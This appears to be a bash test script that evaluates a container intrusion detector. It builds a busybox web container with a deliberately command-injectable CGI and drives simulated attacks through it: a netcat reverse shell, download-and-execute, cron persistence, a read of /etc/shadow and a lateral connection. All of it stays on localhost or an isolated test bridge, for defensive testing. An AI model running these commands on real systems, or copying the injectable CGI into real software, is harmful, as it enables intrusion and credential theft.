#!/usr/bin/env bash
# The model's evaluation on real containers (issue 7): fdr-record records an
# isolated dockerd's busybox web container through a normal period; the model
# is learned from it; then a fresh normal run (false positives per
# container-hour) and an attack run (reverse shell, downloaded binary, cron
# persistence, credential read, lateral connection, exec into the container)
# are checked. Prints per attack step whether a finding (>= medium) falls in
# its time window, and FP figures. Fails when a step is missed or when there
# are more false positives than max(1, container-hours).
#
# The containers have a real network: the test's own bridge fdrmd0 with
# 169.254.213.0/24 (other tests use 169.254.77.0/30), given to dockerd with
# --bridge (still no iptables, no forwarding). Normal activity includes an
# upstream call to a listener the test runs on the bridge address
# (169.254.213.1:8081), so the model learns the container's peers; the
# lateral step connects to another container ("db", 2375/tcp) that the web
# container never talked to, which the net source sees on the veths and must
# flag as a new peer or port.
#
# Env: FDR_SCENARIO_SECS (normal period, default 90), FDR_SCENARIO_FRESH (how
# many fresh normal containers run beside the attacked one, default 1: more
# give more container-hours for the false-positive figure), FDR_SCENARIO_DRY=1 runs
# the Docker part without fdr-record (to check this script itself),
# FDR_SCENARIO_PARTIAL=1 runs with whatever sources fdr-record has and only
# reports (rings without the docker source carry no image, so the baseline's
# section is applied to the checked containers by id: an evaluation aid, not
# the real test).
# Needs root, docker.io, busybox-static, jq (scripts/install-deps.sh).
set -uo pipefail
bin=${FDR_BIN:?}
secs=${FDR_SCENARIO_SECS:-90}
dry=${FDR_SCENARIO_DRY:-0}
partial=${FDR_SCENARIO_PARTIAL:-0}
nfresh=${FDR_SCENARIO_FRESH:-1}
freshes=(web-fresh)
for i in $(seq 2 "$nfresh"); do freshes+=("web-fresh$i"); done
if [ "$dry" != 1 ] && [ ! -x "$bin/fdr-record" ]; then
	echo "SKIP: fdr-record is not built yet (recorder branches not merged); this scenario needs it"
	exit 77
fi
[ "$(id -u)" = 0 ] || { echo "SKIP: needs root (dockerd, fdr-record)"; exit 77; }
if [ "$dry" != 1 ]; then
	# The attack steps need these recorder sources (other branches until merged).
	have=$("$bin/fdr-record" --help 2>&1 | sed -n '/^Sources/,/^$/p' | awk 'NR > 1 { print $1 }')
	missing=""
	for src in proc file net docker; do
		echo "$have" | grep -qx "$src" || missing="$missing $src"
	done
	srcs=proc,file,net,docker
	if [ -n "$missing" ]; then
		[ "$partial" = 1 ] || { echo "SKIP: fdr-record lacks sources:$missing (recorder branches not merged yet)"; exit 77; }
		srcs=$(echo $have | tr ' ' ',')
		echo "partial run: sources $srcs (missing:$missing)"
	fi
fi
for t in dockerd docker jq; do
	command -v $t >/dev/null || { echo "SKIP: $t not installed (scripts/install-deps.sh)"; exit 77; }
done
BB=$(command -v busybox) || { echo "SKIP: busybox not installed"; exit 77; }
command -v ip >/dev/null || { echo "SKIP: ip (iproute2) not installed"; exit 77; }
BR=fdrmd0 NET=169.254.213
if ip link show "$BR" >/dev/null 2>&1; then
	echo "SKIP: bridge $BR already exists (another run of this test, or a killed one: ip link del $BR)"
	exit 77
fi

T=$(mktemp -d /tmp/fdr-scen.XXXXXX)
dpid="" rpid="" upid="" brup=0
cleanup() {
	[ -n "$rpid" ] && kill "$rpid" 2>/dev/null && wait "$rpid" 2>/dev/null
	[ -n "$upid" ] && kill "$upid" 2>/dev/null && wait "$upid" 2>/dev/null
	if [ -n "$dpid" ]; then
		docker -H "unix://$T/docker.sock" rm -f web-base "${freshes[@]}" web-att db >/dev/null 2>&1
		kill "$dpid" 2>/dev/null
		for _ in $(seq 50); do kill -0 "$dpid" 2>/dev/null || break; sleep 0.2; done
		kill -9 "$dpid" 2>/dev/null
	fi
	umount -R "$T/exec" 2>/dev/null; umount -R "$T/data" 2>/dev/null
	# The containers' veths go with their namespaces; then the bridge.
	[ "$brup" = 1 ] && ip link del "$BR" 2>/dev/null
	if [ "${FDR_SCENARIO_KEEP:-0}" = 1 ]; then
		rm -rf "$T/data" "$T/exec" "$T/rootfs"; echo "kept $T"
	else
		rm -rf "$T"
	fi
}
trap cleanup EXIT
trap 'exit 1' INT TERM	# so that cleanup (bridge, dockerd) runs on these too
# Long waits in the background: bash runs a trap only between commands, and
# `wait` returns at once for a signal where `sleep` would be waited out.
nap() { sleep "$1" & wait $!; }
D="docker -H unix://$T/docker.sock"

# A fixed address: a bridge without one takes its lowest port's, which
# changes as containers come and go, under the containers' ARP caches.
ip link add "$BR" address 02:00:a9:fe:d5:01 type bridge || { echo "FAIL: cannot create bridge $BR"; exit 1; }
brup=1
ip addr add "$NET.1/24" dev "$BR" && ip link set "$BR" up || { echo "FAIL: cannot set up bridge $BR"; exit 1; }
dockerd --data-root "$T/data" --exec-root "$T/exec" -H "unix://$T/docker.sock" \
	--pidfile "$T/dockerd.pid" --iptables=false --ip6tables=false --ip-forward=false \
	--ip-masq=false --bridge="$BR" --storage-driver=vfs >"$T/dockerd.log" 2>&1 &
dpid=$!
for _ in $(seq 100); do $D version >/dev/null 2>&1 && break; sleep 0.1; done
$D version >/dev/null 2>&1 || { echo "SKIP: isolated dockerd did not start: $(tail -3 "$T/dockerd.log")"; exit 77; }

# The image: busybox, an httpd with a CGI (the "vulnerable app"), a payload.
mkdir -p "$T/rootfs/bin" "$T/rootfs/www/cgi-bin" "$T/rootfs/etc/crontabs" "$T/rootfs/tmp"
cp "$BB" "$T/rootfs/bin/busybox"
for a in sh httpd wget cat chmod echo sleep nc id ls timeout; do ln -s busybox "$T/rootfs/bin/$a"; done
echo 'root:x:0:0:root:/root:/bin/sh' >"$T/rootfs/etc/passwd"
echo 'root:$6$salt$hash:19000:0:99999:7:::' >"$T/rootfs/etc/shadow"
echo '<h1>hello</h1>' >"$T/rootfs/www/index.html"
cp "$BB" "$T/rootfs/www/payload"
printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\n/bin/sh -c "$(httpd -d "$QUERY_STRING")" 2>&1\n' \
	>"$T/rootfs/www/cgi-bin/run"
chmod 755 "$T/rootfs/www/cgi-bin/run"
# The service: httpd, and a client loop fetching whatever /ctl/url says,
# and reporting to its upstream on the bridge (its normal network use).
cat >"$T/rootfs/bin/service" <<EOF
#!/bin/sh
httpd -p 8080 -h /www
while true; do
	u=\$(cat /ctl/url 2>/dev/null || echo index.html)
	timeout 5 wget -q -O /dev/null "http://127.0.0.1:8080/\$u"; l=\$?
	timeout 5 wget -q -O /dev/null "http://$NET.1:8081/status"; r=\$?
	echo "\$(date) local \$l upstream \$r" >>/tmp/service.log
	sleep 1
done
EOF
chmod 755 "$T/rootfs/bin/service"
ln -s busybox "$T/rootfs/bin/date"
# The upstream: a listener of the test on the bridge address.
mkdir -p "$T/upstream"
echo ok >"$T/upstream/status"
"$BB" httpd -f -p "$NET.1:8081" -h "$T/upstream" &
upid=$!
tar -C "$T/rootfs" -c . | $D import -c 'CMD ["/bin/service"]' -c 'EXPOSE 8080/tcp' - local/websvc:1 >/dev/null \
	|| { echo "FAIL: docker import"; exit 1; }

record_start() {	# dir
	[ "$dry" = 1 ] && return 0
	local extra=()
	"$bin/fdr-record" --help 2>&1 | grep -q -- '--docker-socket' && extra+=(--docker-socket "$T/docker.sock")
	"$bin/fdr-record" -d "$1" --sources "$srcs" --no-sync --flush-interval 1 "${extra[@]}" >"$1.log" 2>&1 &
	rpid=$!
	sleep 2
	kill -0 "$rpid" 2>/dev/null || { echo "FAIL: fdr-record exited: $(tail -5 "$1.log")"; exit 1; }
}
record_stop() {
	[ "$dry" = 1 ] && return 0
	kill -TERM "$rpid"; wait "$rpid"; rpid=""
}
run_web() {	# name: each container has its own control directory
	mkdir -p "$T/ctl-$1"
	echo index.html >"$T/ctl-$1/url"
	$D run -d --name "$1" -v "$T/ctl-$1:/ctl:ro" local/websvc:1 >"$T/id-$1" \
		|| { echo "FAIL: docker run $1"; exit 1; }
}
step() {	# name command: the attacked container's client fetches the CGI once
	echo "$1 $(date +%s)" >>"$T/steps"
	printf 'cgi-bin/run?%s' "$(jq -rn --arg c "$2" '$c | @uri')" >"$T/ctl-web-att/url"
	sleep 2
	echo index.html >"$T/ctl-web-att/url"
	sleep 3
}
loops() {	# name: how many rounds the container's service loop has done (its log, read on the host)
	local m
	m=$(cat "$T/data/image/vfs/layerdb/mounts/$(cat "$T/id-$1")/mount-id" 2>/dev/null) &&
		awk '{ n++ } !/local 0 upstream 0$/ { bad++ } END { printf "%d rounds (%d with a failed fetch)\n", n, bad }' \
			"$T/data/vfs/dir/$m/tmp/service.log" 2>/dev/null || echo "?"
}

# 1. Baseline.
mkdir -p "$T/rec-base" "$T/rec-att"
record_start "$T/rec-base"
run_web web-base
nap "$secs"
echo "service rounds of the baseline: web-base $(loops web-base)" >"$T/rounds-base"
$D rm -f web-base >/dev/null
record_stop

# 2. Fresh normal run, 3. attack run: recorded together, checked apart by container.
fresh=$(( secs * 2 / 3 ))
record_start "$T/rec-att"
t_fresh=$(date +%s)
for f in "${freshes[@]}"; do run_web "$f"; done
run_web web-att
# The lateral target: another service on the container network.
$D run -d --name db local/websvc:1 httpd -f -p 2375 -h /www >/dev/null || { echo "FAIL: docker run db"; exit 1; }
dbip=$($D inspect -f '{{.NetworkSettings.IPAddress}}' db)
[ -n "$dbip" ] || { echo "FAIL: db container has no address"; exit 1; }
nap 10
# The network works (checked from db: an exec into web-att would be a finding).
$D exec db wget -q -O /dev/null "http://$NET.1:8081/status" \
	|| { echo "FAIL: containers cannot reach the upstream $NET.1:8081"; exit 1; }
echo "service rounds before the steps: web-fresh $(loops web-fresh), web-att $(loops web-att)" >"$T/rounds"
: >"$T/steps"
step reverse-shell "nc 127.0.0.1 4444 -e /bin/sh"
step downloaded-binary "wget -q -O /tmp/x http://127.0.0.1:8080/payload && chmod +x /tmp/x && /tmp/x id"
step cron-persistence "echo '* * * * * /tmp/x sh' > /etc/crontabs/root"
step credential-read "cat /etc/shadow"
step lateral "wget -q -O - http://$dbip:2375/index.html"
echo "service rounds after the steps: web-fresh $(loops web-fresh), web-att $(loops web-att)" >>"$T/rounds"
echo "exec-into $(date +%s)" >>"$T/steps"
$D exec web-att sh -c id >/dev/null
if [ "$dry" = 1 ]; then	# the attack steps really happened in the container
	$D exec web-att cat /etc/crontabs/root | grep -q '/tmp/x' || { echo "FAIL: cron step did not run"; exit 1; }
	$D exec web-att ls -l /tmp/x | grep -q rwx || { echo "FAIL: download step did not run"; exit 1; }
fi
nap $(( fresh > 40 ? fresh - 40 : 1 ))
$D rm -f "${freshes[@]}" web-att db >/dev/null
t_fresh=$(( $(date +%s) - t_fresh ))
record_stop
if [ "$dry" = 1 ]; then
	echo "dry run: docker part ok; steps:"; cat "$T/steps"; exit 0
fi

R=$bin/fdr-replay
id_base=$(head -c 12 "$T/id-web-base") id_att=$(head -c 12 "$T/id-web-att")
$R learn -o "$T/model" --container "$id_base" "$T/rec-base" 2>"$T/learn.err" || { cat "$T/learn.err"; echo "FAIL: learn"; exit 1; }
cat "$T/learn.err"
# The normal period's network use is in the model: the upstream is a known peer.
if [ "$partial" != 1 ]; then
	grep -q "^connect tcp $NET.1 8081 " "$T/model" || { grep '^connect\|^listen' "$T/model"; cat "$T/rounds-base"; echo "FAIL: the baseline did not learn its upstream $NET.1:8081"; exit 1; }
	cat "$T/rounds-base"
	echo "baseline peers: $(grep '^connect ' "$T/model" | awk '{ print $2, $3, $4 }' | paste -sd, -)"
fi
model_for() {	# container id -> model file to check it with
	if [ "$partial" = 1 ] && grep -q '^section other ' "$T/model"; then
		sed "s/^section other .*/section other $(cat "$T/id-$1")/" "$T/model" >"$T/model-$1"
		echo "$T/model-$1"
	else
		echo "$T/model"
	fi
}
: >"$T/fresh.json"
for f in "${freshes[@]}"; do
	$R check --model "$(model_for "$f")" --json --container "$(head -c 12 "$T/id-$f")" "$T/rec-att" >>"$T/fresh.json" 2>/dev/null
done
$R check --model "$(model_for web-att)" --json --container "$id_att" "$T/rec-att" >"$T/att.json" 2>/dev/null
fp=$(jq -s '[.[] | select(.severity == "medium" or .severity == "high" or .severity == "critical")] | length' "$T/fresh.json")
fp_all=$(jq -s 'length' "$T/fresh.json")
hours=$(echo "$t_fresh $nfresh" | awk '{ printf "%.3f", $1 * $2 / 3600 }')
echo "false positives: $fp (>= medium; $fp_all incl. low/info) in $hours container-hours ($(echo "$fp $hours" | awk '{ printf "%.1f", $1 / $2 }') per container-hour)"
jq -r '"  fp: \(.severity) \(.rule): \(.reason)"' "$T/fresh.json" | head -20

missed=0
names=($(awk '{ print $1 }' "$T/steps")) times=($(awk '{ print $2 }' "$T/steps"))
for i in "${!names[@]}"; do
	from=${times[$i]} to=$(( ${times[$((i + 1))]:-$(( from + 30 ))} ))
	hit=$(jq -s -r --argjson a "$from" --argjson b "$to" \
		'[.[] | select((.severity == "medium" or .severity == "high" or .severity == "critical")
		  and ((.time | sub("\\.[0-9]+Z$"; "Z") | fromdateiso8601) as $t | $t >= $a and $t < $b))
		  | .rule] | unique | join(",")' "$T/att.json")
	if [ "${names[$i]}" = lateral ] && ! echo ",$hit," | grep -Eq ',new-(port|peer),'; then
		# Another rule in the window (the CGI's shell) does not count: the
		# connection itself must be flagged.
		echo "step lateral: NOT flagged as a connection (window had: ${hit:-nothing})"
		missed=$((missed + 1))
	elif [ -n "$hit" ]; then
		echo "step ${names[$i]}: flagged ($hit)"
		[ "${names[$i]}" = lateral ] && jq -r 'select(.rule == "new-port" or .rule == "new-peer") | "  \(.rule): \(.reason)"' "$T/att.json"
	else
		echo "step ${names[$i]}: NOT flagged"; missed=$((missed + 1))
	fi
done
limit=$(echo "$hours" | awk '{ x = int($1 + 0.999); print x < 1 ? 1 : x }')
[ "$partial" = 1 ] && { echo "partial run: report only"; exit 0; }
if [ "$missed" -ne 0 ]; then	# what the attacked container did, to tell why
	echo "steps (name, unix time):"; sed 's/^/  /' "$T/steps"
	cat "$T/rounds"
	echo "findings of web-att (severity rule time):"
	jq -r '"  \(.severity) \(.rule) \(.time)"' "$T/att.json" | head -30
	echo "events of web-att by kind:"
	$R timeline --json --container "$id_att" "$T/rec-att" 2>&1 | jq -r .kind | sort | uniq -c | sed 's/^/  /'
	echo "rings:"; $R info "$T/rec-att" 2>&1 | head -20 | sed 's/^/  /'
	echo "recorder log:"; tail -15 "$T/rec-att.log" | sed 's/^/  /'
	echo "FAIL: $missed attack steps not flagged"; exit 1
fi
[ "$fp" -le "$limit" ] || { echo "FAIL: $fp false positives > $limit"; exit 1; }
echo PASS
